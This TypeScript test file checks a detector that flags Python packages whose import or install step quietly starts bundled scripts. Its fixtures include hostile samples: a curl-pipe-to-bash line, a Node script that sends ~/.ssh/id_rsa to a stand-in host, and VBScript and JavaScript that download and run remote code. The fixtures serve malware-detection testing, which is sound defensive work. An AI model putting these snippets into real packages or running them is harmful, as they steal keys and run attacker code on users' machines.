import { expect, test } from 'vitest';
import { bundledProgram } from '../../../src/analysis/detectors/bundled-program.ts';
import { bundledScript } from '../../../src/analysis/detectors/bundled-script.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
import { findingsOf, findingsOfSdist } from './carriers.ts';

const starting = (program: string, path: string): string =>
  `import os, subprocess\nsubprocess.Popen(["${program}", os.path.join(os.path.dirname(__file__), "${path}")])\n`;

test('a shell script that an import starts is judged by what it does', async () => {
  const harmful = 'curl -fsSL https://cdn.example/x.sh | bash\n';
  expect(
    await findingsOf(bundledScript, { 'kit/__init__.py': starting('sh', 'run.sh'), 'kit/run.sh': harmful }),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', path: 'kit/__init__.py', line: 2 }]);
});

test('the same script is nobody’s business while only a function starts it', async () => {
  const code = `def go():\n    ${starting('sh', 'run.sh').replace('\n', '\n    ')}`;
  const files = { 'kit/__init__.py': code, 'kit/run.sh': 'curl -fsSL https://cdn.example/x.sh | bash\n' };
  expect(await findingsOf(bundledScript, files)).toEqual([]);
});

test('what a started script starts is followed', async () => {
  const script = `import os, subprocess\nif __name__ == "__main__":\n    subprocess.run(["node", os.path.join(os.path.dirname(__file__), "a.js")])\n`;
  const stealing = `const fs = require("fs"); const https = require("https"); const os = require("os");
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
const request = https.request({ hostname: "cdn.example", method: "POST", path: "/k" });
request.write(key); request.end();
`;
  const files = { 'kit/__init__.py': starting('python3', 'start.py'), 'kit/start.py': script, 'kit/a.js': stealing };
  const [found] = await findingsOf(bundledScript, files);
  expect(found).toMatchObject({ class: 'malware', path: 'kit/__init__.py', context: 'import' });
  expect(found?.chain.some((link) => link.path === 'kit/start.py')).toBe(true);
});

test('a build helper that fetches sources weighs little', async () => {
  const setup = 'import subprocess\nsubprocess.check_call(["sh", "tools/fetch.sh"])\n';
  const fetch = 'wget https://downloads.example/lib.tar.gz\nchmod +x lib/configure\n./lib/configure\n';
  const found = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/fetch.sh': fetch });
  expect(found.every((f) => f.score < 5)).toBe(true);
});

test('a neighbour that setup.py loads by its path is read for what its functions do', async () => {
  const setup = `import importlib.util
spec = importlib.util.spec_from_file_location("post", "tools/post.py")
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
`;
  const post = `import os, subprocess, urllib.request
def run(target):
    urllib.request.urlretrieve("https://cdn.example/p", target)
    os.chmod(target, 0o755)
    subprocess.Popen([target], start_new_session=True)
`;
  const found = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/post.py': post });
  expect(found).toMatchObject([{ class: 'malware', score: 9, context: 'install', path: 'kit-1.0/setup.py' }]);
  const version = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/post.py': 'VERSION = "1.0"\n' });
  expect(version).toEqual([]);
});

test('a script that shows nothing is told once: that an import starts it', async () => {
  const members = { 'kit/__init__.py': starting('sh', 'prepare.sh'), 'kit/prepare.sh': '#!/bin/sh\necho ready\n' };

  expect(await findingsOf(bundledScript, members)).toMatchObject([{ score: 6, class: 'suspicious' }]);
  expect(await findingsOf(bundledProgram, members)).toEqual([]);
});

test('a readme that a converter reads is not run', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'from setuptools import setup',
      "subprocess.call(['pandoc', '--to=rst', '--output=README.rst', 'README.md'])",
      "setup(name='example')",
    ),
    'README.md': python('# Example', 'cat ~/.netrc', 'pip install -r requirements.txt', 'crontab -e'),
  });

  expect(await inspect('bundled-script', file)).toEqual([]);
});

test('a script of another language that an import starts out of sight is malware, one that it talks to is suspicious', async () => {
  const started = (options: string): string =>
    `import os, subprocess\nsubprocess.Popen(["bun", "run", os.path.join(os.path.dirname(__file__), "a.js")]${options})\n`;
  const files = (options: string): Record<string, string> => ({
    'kit/__init__.py': started(options),
    'kit/a.js': 'console.log("ready");\n',
  });

  expect(await findingsOf(bundledScript, files(', stdout=subprocess.DEVNULL'))).toMatchObject([
    { class: 'malware', score: 9, context: 'import', line: 2 },
  ]);
  expect(await findingsOf(bundledScript, files(', stdin=subprocess.PIPE, stdout=subprocess.PIPE'))).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
});

test('an import that starts a script which downloads a program and starts it is harm; a build that does is told', async () => {
  const script = python(
    'Set x = CreateObject("MSXML2.XMLHTTP")',
    'x.Open "GET", "https://stage.metrics.invalid/a.exe", False',
    'x.Send',
    'Set s = CreateObject("ADODB.Stream")',
    's.Write x.responseBody',
    's.SaveToFile "a.exe", 2',
    'CreateObject("WScript.Shell").Run "a.exe", 0',
  );
  const start = "subprocess.Popen(['wscript', os.path.join(os.path.dirname(__file__), 'update.vbs')])";

  expect(
    await inspect(
      'bundled-script',
      wheel({ 'pkg/__init__.py': python('import os, subprocess', start), 'pkg/update.vbs': script }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 2 }]);
  const built = await inspect(
    'bundled-script',
    sdist({
      'setup.py': python('import os, subprocess', 'from setuptools import setup', start, 'setup()'),
      'update.vbs': script,
    }),
  );
  expect(built.every((f) => f.class === 'suspicious')).toBe(true);
});

test('JavaScript that runs what comes over a connection', async () => {
  const run = (last: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, subprocess',
        "subprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'run.js')])",
      ),
      'pkg/run.js': `const {exec}=require('child_process');require('https').get('https://stage.metrics.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>${last})});\n`,
    });

  const [told] = await inspect('bundled-script', run('exec(d)'));

  expect(told).toMatchObject({ class: 'malware', score: 10 });
  expect(told?.message).toContain('runs what it downloads');
  expect(await inspect('bundled-script', run('console.log(d)'))).toMatchObject([{ class: 'suspicious' }]);
});
